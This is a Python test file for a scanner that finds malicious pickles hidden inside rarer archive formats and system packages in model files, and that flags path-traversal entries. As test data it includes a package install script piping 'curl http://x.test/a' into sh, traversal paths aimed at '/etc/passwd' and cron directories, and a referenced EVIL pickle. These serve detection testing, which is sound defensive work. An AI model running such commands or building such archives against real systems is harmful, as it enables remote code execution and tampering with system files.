"""Archives that are seldom part of a model: members are judged as any archive's, or told as not looked at."""

from __future__ import annotations

import gzip
import io
import lzma
import pickle
import random
import struct
import tarfile
import zlib
from collections.abc import Callable

import pytest

from moongate.scan.engine import judge
from moongate.weights.branch_filters import joined_calls, unfiltered
from moongate.weights.deflate64 import inflate64
from moongate.weights.ranged import Held
from support.pickled import EVIL, zipped
from support.scan_samples.rarer_archives import (
    ar,
    bcj2,
    cabinet,
    cpio,
    deflated64,
    lzw,
    rar4,
    rar5,
    rar5_link,
    rar5_record,
    rpm,
    seven_zip_of_bcj2,
)
from support.scan_samples.seven_zip import seven_zipped

NOTHING = pickle.dumps({"a": 1})


def verdict(data: bytes, name: str = "file") -> str:
    return judge(Held(data), name).verdict


def lzip(data: bytes) -> bytes:
    chain = [{"id": lzma.FILTER_LZMA1, "dict_size": 1 << 20}]
    alone = lzma.compress(data, lzma.FORMAT_ALONE, filters=chain)
    return (
        b"LZIP\x01\x14" + alone[13:] + struct.pack("<IQQ", zlib.crc32(data), len(data), 26 + len(alone) - 13)
    )


def tarred(data: bytes) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        member = tarfile.TarInfo("m.zip")
        member.size = len(data)
        archive.addfile(member, io.BytesIO(data))
    return out.getvalue()


def zip_of(method: int, packed: bytes, plain: bytes) -> bytes:
    told = struct.pack("<5H3I2H", 63, 0, method, 0, 0, zlib.crc32(plain), len(packed), len(plain), 1, 0)
    local = b"PK\x03\x04" + told + b"m" + packed
    line = b"PK\x01\x02\x3f\x00" + told + bytes(14) + b"m"
    return local + line + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 1, 1, len(line), len(local), 0)


WRAPPINGS: dict[str, Callable[[bytes], bytes]] = {
    "rar 4": lambda data: rar4({"m.pkl": data, "b": b"words"}),
    "rar 5": lambda data: rar5({"m.pkl": data, "b": b"words"}),
    "behind a rar": lambda data: rar5({"b": b"words"}) + data,
    "a cabinet": lambda data: cabinet({"m.pkl": data}),
    "a stored cabinet": lambda data: cabinet({"b": b"words", "m.pkl": data}, 0),
    "ar": lambda data: ar({"m.pkl": data, "b": b"w"}),
    "cpio": lambda data: cpio({"b": b"words", "m.pkl": data}),
    "old cpio": lambda data: cpio({"b": b"words", "m.pkl": data}, old=True),
    "behind a cpio": lambda data: cpio({"b": b"words"}) + data,
    "bcj2": lambda data: seven_zip_of_bcj2("m.pkl", data),
    "lzip": lzip,
    "two lzips": lambda data: lzip(data[:7]) + lzip(data[7:]),
    "compress": lzw,
    "deflate64 in a zip": lambda data: zip_of(9, deflated64(data, 0), data),
    "deflate64 in a 7z": lambda data: seven_zipped({"m": deflated64(data, 0)}, b"\x04\x01\x09"),
    "a zip in a tar": lambda data: tarred(zipped({"m.pkl": data})),
    "a zip in a rar": lambda data: rar5({"m.zip": zipped({"m.pkl": data})}),
}


@pytest.mark.parametrize("name", ["model.bin", "config.json"])
@pytest.mark.parametrize("wrapping", WRAPPINGS)
def test_a_pickle_is_found_inside(wrapping: str, name: str) -> None:
    assert verdict(WRAPPINGS[wrapping](EVIL), name) == "dangerous"
    assert verdict(WRAPPINGS[wrapping](NOTHING), name) == "clean"


def test_packages_of_systems_are_looked_into_and_never_clean() -> None:
    """Installing one runs its scripts, as the installers of Windows do."""
    assert verdict(rpm(gzip.compress(cpio({"m.pkl": EVIL})))) == "dangerous"
    assert verdict(rpm(gzip.compress(cpio({"a": b"words"})))) == "suspicious"
    script = "#!/bin/sh\ncurl http://x.test/a | sh\n"
    assert verdict(rpm(gzip.compress(cpio({"a": b"words"})), script)) == "dangerous"
    inner = {"debian-binary": b"2.0\n", "control.tar": tarred(NOTHING)}
    assert verdict(ar(inner | {"data.tar": tarred(EVIL)})) == "dangerous"
    assert verdict(ar(inner)) == "suspicious"


@pytest.mark.parametrize("path", ["../../etc/cron.d/x", "/etc/passwd", "..\\b"])
def test_names_that_leave_are_refused(path: str) -> None:
    for data in (rar4({path: b"x"}), rar5({path: b"x"}), cabinet({path: b"x"}), cpio({path: b"x"})):
        assert verdict(data) == "dangerous"


def test_links_that_leave_are_refused() -> None:
    for target, expected in (("../../etc", "dangerous"), ("b", "clean")):
        assert verdict(rar5({"a": b""}, extra=rar5_link(target))) == expected
        assert verdict(rar4({"a": target.encode()}, mode=0o120777)) == expected
        assert verdict(cpio({"a": target.encode()}, mode=0o120777)) == expected


NOT_LOOKED_AT = {
    "rar 4, packed": rar4({"m": b"abc"}, method=0x33),
    "rar 5, packed": rar5({"m": b"abc"}, packing=0x180, sizes=300),
    "rar 4, encrypted": rar4({"m": bytes(range(64))}, flags=4),
    "rar 4, encrypted headers": rar4({"m": b"abc"}, main=0x80),
    "rar 5, encrypted": rar5({"m": bytes(range(64))}, extra=rar5_record(1, bytes(33))),
    "rar 4, in volumes": rar4({"m": b"abc"}, flags=2),
    "rar 5, in volumes": rar5({"m": b"abc"}, flags=0x10),
    "a cabinet of LZX": cabinet({"m": b"abc"}, 0x1503),
    "PPMd": seven_zipped({"m": b"abc"}, b"\x03\x04\x01"),
    "PPMd in a zip": zip_of(98, b"abc", b"abcabc"),
    "a cut rar": rar5({"m": bytes(90)})[:60],
    "a cut ar": ar({"m": bytes(90)})[:-9],
    "a cut cpio": cpio({"m": bytes(90)})[:150],
    "a cut rpm": rpm(b"")[:120],
}


@pytest.mark.parametrize("name", NOT_LOOKED_AT)
def test_what_cannot_be_read_is_told(name: str) -> None:
    assert verdict(NOT_LOOKED_AT[name]) in {"unscanned", "suspicious"}


def test_deflate64_reaches_further_than_deflate() -> None:
    """One match of 65,538 bytes, which deflate has no code for; and bounds."""
    data = b"ab" + b"b" * 65_538 + b"end"
    packed = deflated64(b"ab", 65_538, b"end")
    assert inflate64(packed, len(data)) == (data, False, False, len(packed))
    out, cut, broken, _ = inflate64(packed, 1000)
    assert (len(out), cut, broken) == (1000, True, False)
    assert inflate64(packed, len(data), most_steps=4_002)[1]
    assert inflate64(packed[:-3], len(data))[2]
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    noise = random.Random(5).randbytes(3000) + b"words and more words " * 9
    assert inflate64(packer.compress(noise) + packer.flush(), 1 << 20)[0] == noise


def test_calls_are_put_back_where_bcj2_found_them() -> None:
    dice = random.Random(7)
    for _ in range(50):
        data = bytes(dice.choice(b"\xe8\xe9\x0f\x80\x85\x00\x01\xff") for _ in range(dice.randrange(60)))
        assert joined_calls(*bcj2(data), len(data)) == data


def test_filters_of_programs_are_undone_whatever_packed_them() -> None:
    code = b"\xe8\x10\x20\x00\x00\x90" * 20_000
    chain = [{"id": lzma.FILTER_X86}, {"id": lzma.FILTER_LZMA2, "preset": 0}]
    filtered = lzma.decompress(
        lzma.compress(code, lzma.FORMAT_RAW, filters=chain), lzma.FORMAT_RAW, filters=chain[1:]
    )
    assert filtered != code
    assert unfiltered(b"\x03\x03\x01\x03", b"", filtered) == code
